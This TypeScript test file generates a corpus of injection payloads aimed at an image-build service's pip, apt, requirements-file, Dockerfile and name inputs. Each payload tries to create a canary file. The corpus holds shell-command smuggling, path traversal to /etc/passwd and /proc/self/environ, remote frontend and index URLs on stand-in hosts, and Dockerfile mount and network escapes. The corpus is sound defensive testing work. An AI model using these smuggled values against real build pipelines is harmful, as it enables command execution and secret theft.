/**
 * What somebody might type into the form of an image, or hand over as a file, to get more than an image: each tries to make a
 * file that only it would make, its canary. Made systematically: every payload in every place where words of people go. Some
 * of it is harmless once it is read as what it says; such a line may be accepted, and then it must be built literally.
 */
export type Hostile = {
  /** Unique and stable: `pip-option-3-after-marker`. */
  id: string;
  into: "pip" | "apt" | "dockerfile" | "base" | "sets" | "name";
  text: string;
  /** The path of the file that must not be there after anything was done with the text, in the image or on the host. */
  canary: string;
};

type Payload = { idea: string; text: (canary: string) => string };

/** Every case; more than five hundred. The same in every run. */
export function hostileCorpus(): Hostile[] {
  return [...inPip(), ...inApt(), ...inRequirementsFiles(), ...inDockerfiles(), ...inNames()];
}

const shell: Payload[] = [
  { idea: "semicolon", text: (c) => `; touch ${c}` },
  { idea: "and", text: (c) => ` && touch ${c}` },
  { idea: "or", text: (c) => ` || touch ${c}` },
  { idea: "background", text: (c) => ` & touch ${c} &` },
  { idea: "pipe", text: (c) => ` | tee ${c}` },
  { idea: "redirect", text: (c) => ` > ${c}` },
  { idea: "redirect-version", text: (c) => `>=2.0>${c}` },
  { idea: "append", text: (c) => ` >> ${c}` },
  { idea: "substitution", text: (c) => `$(touch ${c})` },
  { idea: "backticks", text: (c) => `\`touch ${c}\`` },
  { idea: "no-space", text: (c) => `;{touch,${c}}` },
  { idea: "ifs", text: (c) => `;touch$IFS${c}` },
  { idea: "ifs-braces", text: (c) => `;touch\${IFS}${c}` },
  { idea: "variable", text: (c) => `\${BERTH_CANARY:=$(touch ${c})}` },
  { idea: "single-quote", text: (c) => `'; touch ${c}; '` },
  { idea: "double-quote", text: (c) => `"; touch ${c}; "` },
  { idea: "paren", text: (c) => `); (touch ${c}` },
  { idea: "subshell", text: (c) => `<(touch ${c})` },
  { idea: "heredoc", text: (c) => ` <<X\n$(touch ${c})\nX` },
  { idea: "comment-end", text: (c) => ` # x\n; touch ${c}` },
  { idea: "history", text: (c) => `!touch ${c}` },
  { idea: "glob", text: (c) => `*; touch ${c}` },
];

/** What is no more than what it says, once it is read so. */
const words: Payload[] = [
  { idea: "comment", text: (c) => ` # ; touch ${c}` },
  { idea: "comment-tab", text: (c) => `\t#$(touch ${c})` },
  { idea: "comment-line", text: (c) => `\n# --log ${c} \u2028 touch ${c}` },
];

const lineEnds: Payload[] = [
  ["newline", "\n"],
  ["windows", "\r\n"],
  ["return", "\r"],
  ["vertical-tab", "\v"],
  ["form-feed", "\f"],
  ["nul", "\0"],
  ["next-line", "\u0085"],
  ["line-separator", "\u2028"],
  ["paragraph-separator", "\u2029"],
  ["file-separator", "\x1c"],
  ["record-separator", "\x1e"],
  ["escaped", "\\n"],
  ["percent", "%0a"],
  ["backslash-newline", "\\\n"],
].map(([idea, end]) => ({ idea: `line-${idea}`, text: (c) => `${end}RUN touch ${c}` }));

const unicode: Payload[] = [
  { idea: "fullwidth-semicolon", text: (c) => `； touch ${c}` },
  { idea: "fullwidth-dollar", text: (c) => `＄(touch ${c})` },
  { idea: "greek-question-mark", text: (c) => `\u037e touch ${c}` },
  { idea: "no-break-space", text: (c) => `\u00a0--log\u00a0${c}` },
  { idea: "zero-width", text: (c) => `\u200b; touch ${c}` },
  { idea: "right-to-left", text: (c) => `\u202e; touch ${c}` },
  { idea: "byte-order-mark", text: (c) => `\ufeff; touch ${c}` },
  { idea: "en-dash-option", text: (c) => ` –log ${c}` },
  { idea: "curly-quotes", text: (c) => `“; touch ${c}; ”` },
  { idea: "combining", text: (c) => `;\u0301touch ${c}` },
  { idea: "surrogate", text: (c) => `\ud800; touch ${c}` },
  { idea: "ideographic-space", text: (c) => `\u3000touch\u3000${c}` },
];

const paths: Payload[] = [
  { idea: "absolute", text: (c) => `/../../..${c}` },
  { idea: "relative", text: (c) => `../../../..${c}` },
  { idea: "encoded", text: (c) => `..%2f..%2f..${c}` },
  { idea: "home", text: (c) => `~/../..${c}` },
  { idea: "file", text: (c) => ` @ file://${c}` },
  { idea: "nul-path", text: (c) => `/etc/passwd\0${c}` },
];

const pipOptions: Payload[] = [
  "--log {c}",
  "--log={c}",
  "--target {c}",
  "-t {c}",
  "--prefix={c}",
  "--root {c}",
  "--report {c}",
  "--src={c}",
  "--cache-dir {c}",
  "--index-url http://198.51.100.7{c}",
  "-i http://198.51.100.7{c}",
  "--extra-index-url http://198.51.100.7{c}",
  "--find-links {c}",
  "-f {c}",
  "-r {c}",
  "--requirement={c}",
  "-c {c}",
  "--constraint {c}",
  "-e {c}",
  "--editable git+file://{c}",
  "--trusted-host 198.51.100.7{c}",
  "--config-settings=--build-option={c}",
  "--global-option={c}",
  "--install-option=--prefix={c}",
  '--config-settings="x={c}"',
  "--hash=sha256:{c}",
  "--no-binary :all: --log {c}",
  "--pre --log {c}",
  "--python {c}",
  "--proxy http://198.51.100.7{c}",
  "--use-feature={c}",
].map((option, i) => ({ idea: `option-${i}`, text: (c) => ` ${option.replaceAll("{c}", c)}` }));

const addresses: Payload[] = [
  "git+https://example.org/x.git#{c}",
  "git+ssh://git@example.org{c}",
  "hg+http://example.org{c}",
  "svn+svn://example.org{c}",
  "bzr+lp:{c}",
  "http://example.org{c}.whl",
  "https://user:secret@example.org{c}.whl",
  "https://example.org{c}.whl --log {c}",
  "https://example.org/$(touch {c}).whl",
  "https://example.org/${HOME}{c}.whl",
  "https://example.org/x.whl;touch {c}",
  "file://{c}",
  "file:///proc/self/environ#{c}",
  "ftp://example.org{c}",
  "data:text/plain,{c}",
  "https://[::1]{c}",
  "https://example.org\\@198.51.100.7{c}",
  "HTTPS+git://example.org{c}",
].map((address, i) => ({ idea: `address-${i}`, text: (c) => ` @ ${address.replaceAll("{c}", c)}` }));

function inPip(): Hostile[] {
  const everywhere = [...shell, ...lineEnds, ...unicode];
  const places: [string, (payload: string) => string][] = [
    ["behind-name", (p) => `numpy${p}`],
    ["alone", (p) => p],
    ["in-extra", (p) => `requests[security${p}]`],
    ["in-version", (p) => `numpy==1.26${p}`],
    ["in-marker", (p) => `numpy; python_version >= "3${p}"`],
    ["behind-marker", (p) => `numpy; python_version >= "3.8"${p}`],
    ["in-arbitrary-version", (p) => `numpy===1${p}`],
  ];
  const optionPlaces: [string, (payload: string) => string][] = [
    ["alone", (p) => p.trim()],
    ["behind-name", (p) => `numpy${p}`],
    ["in-marker", (p) => `numpy; os_name == "a${p}" or os_name == "b"`],
    ["behind-marker", (p) => `numpy; python_version >= "3.8"${p}`],
  ];
  return [
    ...cross("pip", everywhere, places),
    ...cross("pip", words, [["behind-marker", (p) => `numpy; python_version >= "3.8"${p}`]]),
    ...cross("pip", pipOptions, optionPlaces),
    ...cross(
      "pip",
      [...addresses, ...paths],
      [
        ["behind-name", (p) => `numpy${p}`],
        ["alone", (p) => p.replace(/^ @ /, "")],
      ],
    ),
  ];
}

const aptOptions: Payload[] = [
  "-o APT::Update::Pre-Invoke::=touch${IFS}{c}",
  "-o=DPkg::Pre-Invoke::=touch {c}",
  "--option Dir::Log={c}",
  "-c {c}",
  "--config-file={c}",
  "--allow-unauthenticated {c}",
  "--root={c}",
  "-t {c}",
  "--purge {c}",
  "-- {c}",
  "./{c}.deb",
  "{c}.deb",
  "git/../../{c}",
  "git={c}",
  "git=1;touch {c}",
  "git=1.0$(touch {c})",
  "git:{c}",
  "git:amd64;touch {c}",
  "sudo- {c}",
  "openssh-server-{c}-",
  "?any({c})",
  "~n.*{c}",
  "~i{c}",
  "task^ {c}",
  "*{c}",
  ".*{c}",
  "deb http://198.51.100.7 {c} main",
  "ppa:x{c}",
  "@{c}",
  "git\\ {c}",
].map((option, i) => ({ idea: `option-${i}`, text: (c) => option.replaceAll("{c}", c) }));

function inApt(): Hostile[] {
  return [
    ...cross(
      "apt",
      [...shell, ...lineEnds, ...unicode, ...paths],
      [
        ["behind-name", (p) => `git${p}`],
        ["alone", (p) => p],
        ["in-version", (p) => `git=1:2.39${p}`],
      ],
    ),
    ...cross("apt", words, [["behind-name", (p) => `git${p}`]]),
    ...cross("apt", aptOptions, [
      ["alone", (p) => p],
      ["second", (p) => `tmux ${p}`],
      ["second-line", (p) => `tmux\n${p}`],
    ]),
  ];
}

/** As people hand them over: good lines around a bad one, other tools' formats, encodings. */
function inRequirementsFiles(): Hostile[] {
  const files: Payload[] = [
    {
      idea: "frozen",
      text: (c) => `-e git+https://example.org/x@abc#egg=x\nnumpy==1.26.4\n# ${c}\n--log ${c}`,
    },
    { idea: "continued", text: (c) => `numpy==1.26.4 \\\n    --log ${c}` },
    { idea: "continued-name", text: (c) => `num\\\npy --log ${c}` },
    { idea: "comment-continued", text: (c) => `# harmless \\\n--log ${c}` },
    { idea: "nested", text: (c) => `-r requirements/base.txt\n-c ${c}` },
    {
      idea: "conda",
      text: (c) => `name: x\ndependencies:\n  - numpy=1.26=py312\n  - pip:\n    - --log=${c}`,
    },
    { idea: "poetry", text: (c) => `[tool.poetry.dependencies]\nnumpy = { path = "${c}" }` },
    { idea: "bom", text: (c) => `\ufeff--log ${c}` },
    { idea: "utf16", text: (c) => [...`--log ${c}`].join("\0") },
    { idea: "encoding-line", text: (c) => `# -*- coding: utf-7 -*-\n+AC0ALQ-log ${c}` },
    { idea: "environment", text: (c) => `\${BERTH_OPTIONS}\nnumpy\${BERTH}${c}` },
    { idea: "editable-path", text: (c) => `-e .${c}` },
    { idea: "dot", text: () => "." },
    { idea: "script", text: (c) => `#!/bin/sh\ntouch ${c}` },
    { idea: "setup", text: (c) => `import os; os.system("touch ${c}")` },
    { idea: "egg-info", text: (c) => `-f ./wheels\n--no-index\n./wheels${c}.whl` },
    { idea: "many", text: (c) => `${"numpy\n".repeat(600)}--log ${c}` },
    { idea: "long", text: (c) => `${"a".repeat(5_000)} --log ${c}` },
  ];
  return cross("pip", files, [
    ["file", (p) => p],
    ["file-windows", (p) => p.replaceAll("\n", "\r\n")],
  ]);
}

const someBase = "docker.io/aimehub/pytorch-2.8.0-cuda12.6.3";

function inDockerfiles(): Hostile[] {
  const bases: Payload[] = [
    "ubuntu",
    "docker.io/library/ubuntu:24.04",
    "evil.example.org/x",
    "localhost:5000/x",
    "127.0.0.1/x",
    "ds01-ana/vision:latest",
    "docker.io/ds01-ana/vision:exp-42",
    "berth-base:0123456789ab",
    "docker.io/library/berth-base:0123456789ab",
    "index.docker.io/library/berth-base:0123456789ab",
    "sha256:{h}",
    "{h}",
    "python@sha256:xyz",
    "docker.io/aimehub/../library/ubuntu",
    "docker.io/aimehub-evil/x",
    "docker.io/aimehubx",
    "aimehub.evil.example.org/x",
    "docker.io/aimehub@evil.example.org/x",
    "docker.io//aimehub/x",
    "DOCKER.IO/aimehub/X",
    "docker.io/aimehub/x:tag:tag",
    "https://docker.io/aimehub/x",
    "docker-image://ubuntu",
    "${BASE}",
    "$BASE",
    "${BASE:-ubuntu}",
    "docker.io/aimehub/${X}",
    '"ubuntu"',
    "'ubuntu'",
    "ub\\untu",
    "dоcker.io/aimehub/x",
    "docker.io/aimehub/x\u200b",
    "--platform=$BUILDPLATFORM ubuntu",
    "--platform=linux/arm64 docker.io/aimehub/x",
    "docker.io/aimehub/x AS ubuntu AS y",
    "docker.io/aimehub/x as UBUNTU",
    "context",
    "oci-layout://x",
    "git://example.org/x",
    "scratch:latest",
    "scratch@sha256:{h}",
  ].map((base, i) => ({
    idea: `from-${i}`,
    text: (c) => `FROM ${base.replaceAll("{h}", "0123456789abcdef".repeat(4))}\nRUN touch ${c}`,
  }));
  const more: Payload[] = [
    ...[
      "# syntax=evil.example.org/frontend",
      "#syntax = evil.example.org/frontend",
      "# escape=`",
      "#\tescape=`",
      "# check=skip=all",
      "# SYNTAX=evil.example.org/frontend",
      "\ufeff# syntax=evil.example.org/frontend",
      "// syntax=evil.example.org/frontend",
      '{"syntax":"evil.example.org/frontend"}',
      "#!/usr/bin/env x\n# syntax=evil.example.org/frontend",
    ].map((first, i) => ({
      idea: `directive-${i}`,
      text: (c: string) => `${first}\nFROM ${someBase}\nRUN touch ${c}`,
    })),
    ...[
      "ADD http://127.0.0.1:2375/info {c}",
      "ADD https://example.org/x {c}",
      "ADD HTTP://127.0.0.1/x {c}",
      "ADD git@example.org:x.git {c}",
      "ADD https://example.org/x.git#main {c}",
      "ADD git://example.org/x.git {c}",
      "ADD ssh://git@example.org/x.git {c}",
      "ADD github.com/example/x.git {c}",
      'ADD ["http://127.0.0.1/x", "{c}"]',
      "ADD $URL {c}",
      "ADD ${URL} {c}",
      'ADD "http://127.0.0.1/x" {c}',
      "ADD 'http://127.0.0.1/x' {c}",
      "ADD ht\\\ntp://127.0.0.1/x {c}",
      "ADD http:\\/\\/127.0.0.1/x {c}",
      "ADD --checksum=sha256:00 http://127.0.0.1/x {c}",
      "ADD --keep-git-dir=true https://example.org/x.git {c}",
      "ADD --chown=0:0 http://127.0.0.1/x {c}",
      "ADD a http://127.0.0.1/x {c}",
      "ADD\thttp://127.0.0.1/x\t{c}",
      "add http://127.0.0.1/x {c}",
      "ADD <<X {c}\nx\nX",
      "ADD --from=ubuntu /x {c}",
      "COPY --from=ubuntu /etc/passwd {c}",
      "COPY --from=ds01-ana/vision:latest /workspace {c}",
      "COPY --from=berth-base:0123456789ab / {c}",
      "COPY --from=${X} / {c}",
      "COPY --from=0 / {c}",
      "COPY --from=1 / {c}",
      "COPY --from=00 / {c}",
      "COPY --from=-1 / {c}",
      "COPY --from= / {c}",
      'COPY --from="ubuntu" / {c}',
      "COPY --from=later / {c}\nFROM scratch AS later",
      "COPY --chown=0:0 --from=ubuntu / {c}",
      "COPY --from=own --from=ubuntu / {c}",
      "COPY --FROM=ubuntu / {c}",
      "COPY --from=ubu\\\nntu / {c}",
      "COPY --from=ubuntu:24.04 \\\n# comment\n / {c}",
      "COPY --link --from=nginx / {c}",
      "COPY --parents a {c}",
      "COPY --exclude=a b {c}",
      "COPY <<EOF {c}\nx\nEOF",
      "COPY <<-'EOF' {c}\nx\nEOF",
      'COPY ["a", "{c}"',
      "COPY 'a b' {c}",
      "RUN --mount=type=bind,from=ubuntu,target=/x cp /x/etc/passwd {c}",
      "RUN --mount=type=bind,from=ds01-ana/vision,target=/x touch {c}",
      "RUN --mount=type=cache,id=berth-pip,target=/x touch {c}",
      "RUN --mount=type=cache,target=/root/.cache,from=ubuntu touch {c}",
      "RUN --mount=type=secret,id=x touch {c}",
      "RUN --mount=type=ssh touch {c}",
      "RUN --mount=target=/x,source=/ touch {c}",
      "RUN --network=host touch {c}",
      "RUN --network=none touch {c}",
      "RUN --security=insecure touch {c}",
      "RUN --device=nvidia.com/gpu=all touch {c}",
      "RUN \\\n--network=host touch {c}",
      "RUN \\\n# x\n\\\n  --security=insecure touch {c}",
      "RUN\t--network=host touch {c}",
      "run --network=host touch {c}",
      "RUN  --mount=type=tmpfs,target=/x touch {c}",
      "RUN <<EOF\ntouch {c}\nEOF",
      "RUN <<-EOF\n\ttouch {c}\n\tEOF",
      "RUN cat <<'EOF'\nFROM x\nRUN touch {c}\nEOF",
      "RUN 3<<EOF cat\ntouch {c}\nEOF",
      "RUN python3 <<EOF\nopen('{c}', 'w')\nEOF",
      "ONBUILD RUN touch {c}",
      "ONBUILD COPY --from=ubuntu / {c}",
      "onbuild RUN --network=host touch {c}",
      "VOLUME /workspace",
      'VOLUME ["/workspace", "{c}"]',
      "VOLUME /",
      "LABEL berth.instance=x",
      'LABEL "berth.build"="7"',
      "LABEL a=b berth.image=1",
      'LABEL "be"rth.build=7',
      "LABEL be\\rth.build=7",
      "LABEL ${X}=7",
      'LABEL a="b\\\nRUN touch {c}"',
      "LABEL a='b\nRUN touch {c}'",
      'ENV A="x\nRUN touch {c}"\nFROM ubuntu',
      "FROM ubuntu",
      "FROM ubuntu AS x",
      "FROM\tubuntu",
      "from ubuntu",
      "FROM \\\nubuntu",
      "FROM \\\n# x\nubuntu",
      "FR\\\nOM ubuntu",
      "FROM --platform=linux/amd64 ubuntu",
      "RUN echo \\\\\nFROM ubuntu",
      "RUN echo x \\ \nFROM ubuntu",
      "RUN echo x\\\t\nFROM {c}",
      "RUN echo \\\n\n\nFROM ubuntu",
      "# x \\\nFROM ubuntu",
      "RUN echo \r FROM ubuntu\rRUN touch {c}",
      "RUN echo\u2028FROM ubuntu",
      "RUN echo\u0085FROM ubuntu",
      "RUN echo\vFROM ubuntu",
      "RUN echo\fFROM ubuntu",
      "RUN\u00a0--network=host touch {c}",
      "\u00a0FROM ubuntu",
      "\u200bFROM ubuntu",
      "ＦＲＯＭ ubuntu",
      "FRОM ubuntu",
      "INCLUDE ubuntu",
      "SHELL /bin/sh",
      'SHELL ["/bin/sh", "-c"',
      "SHELL []",
      "MOUNT /x",
      "RUN",
      "COPY a",
      "COPY",
      "RUN x \\",
      "ARG X=y\nFROM $X",
      "CMD --network=host \\\nFROM ubuntu",
      "HEALTHCHECK --interval=1s CMD x \\\nFROM ubuntu",
    ].map((line, i) => ({
      idea: `line-${i}`,
      text: (c: string) => `FROM ${someBase} AS own\n${line.replaceAll("{c}", c)}\n`,
    })),
    { idea: "empty", text: () => "" },
    { idea: "only-comment", text: (c) => `# RUN touch ${c}` },
    { idea: "no-from", text: (c) => `RUN touch ${c}` },
    { idea: "nul", text: (c) => `FROM ${someBase}\nRUN echo \0\nRUN --network=host touch ${c}` },
    { idea: "too-long", text: (c) => `FROM ${someBase}\nRUN echo ${"a".repeat(70_000)}\nRUN touch ${c}` },
    { idea: "too-many", text: (c) => `FROM ${someBase}\n${`RUN touch ${c}\n`.repeat(130)}` },
    { idea: "surrogate", text: (c) => `FROM ${someBase}\nRUN echo \ud800\nADD http://127.0.0.1/x ${c}` },
  ];
  return cross("dockerfile", [...bases, ...more], [["", (p) => p]]);
}

function inNames(): Hostile[] {
  const payloads = [...shell, ...lineEnds, ...unicode, ...paths].map((one) => one);
  return [
    ...cross("base", payloads, [["row", (p) => `python-3.12${p}`]]),
    ...cross("sets", payloads, [["set", (p) => `jupyter${p}`]]),
    ...cross("name", payloads, [["image", (p) => `vision${p}`]]),
  ];
}

function cross(
  into: Hostile["into"],
  payloads: readonly Payload[],
  places: readonly (readonly [string, (payload: string) => string])[],
): Hostile[] {
  return payloads.flatMap((payload) =>
    places.map(([place, put]) => {
      const id = [into, payload.idea, place].filter(Boolean).join("-");
      const canary = `/tmp/canary-${id}`;
      return { id, into, canary, text: put(payload.text(canary)) };
    }),
  );
}
